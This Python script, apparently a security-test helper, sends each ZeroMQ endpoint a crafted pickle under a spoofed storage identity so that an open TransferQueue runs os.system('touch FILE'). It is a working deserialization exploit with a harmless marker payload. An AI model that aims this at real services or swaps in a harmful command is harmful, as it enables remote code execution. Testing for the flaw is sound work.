"""A neighbour without secrets: sends each ZeroMQ endpoint the two frames that make an open TransferQueue run
a command. Run as a script, with an empty environment: `intruder.py FILE ENDPOINT ...` has them make FILE."""

from __future__ import annotations

import os
import pickle
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import zmq

MARKER_FRAME = b"\xc1\xfe\xed"
LINGER_MS = 3_000


class Touch:
    """Unpickling it makes a file."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.path}",)


def attack(marker: Path, endpoints: Sequence[str]) -> None:
    """Try all endpoints from a process of its own, and give what takes the frames time to act on them."""
    command = [sys.executable, __file__, str(marker), *endpoints]
    subprocess.run(command, env={}, check=True, timeout=120)


def endpoint(host: str, port: int) -> str:
    """Of ZeroMQ, at an address and port."""
    return f"tcp://[{host}]:{port}" if ":" in host else f"tcp://{host}:{port}"


def main(marker: str, *endpoints: str) -> None:
    """Send the frames and wait as long as a free connection could need."""
    context = zmq.Context()
    sockets = []
    for endpoint in endpoints:
        socket = context.socket(zmq.DEALER)
        socket.setsockopt(zmq.IPV6, 1)
        socket.identity = b"TQ_STORAGE_intruder"  # storage units drop other names unread
        socket.linger = LINGER_MS
        socket.connect(endpoint)
        socket.send_multipart([MARKER_FRAME, pickle.dumps(Touch(marker))], zmq.DONTWAIT)
        sockets.append(socket)
    poller = zmq.Poller()
    for socket in sockets:
        poller.register(socket, zmq.POLLIN)
    poller.poll(LINGER_MS)
    for socket in sockets:
        socket.close()
    context.term()


if __name__ == "__main__":
    main(*sys.argv[1:])
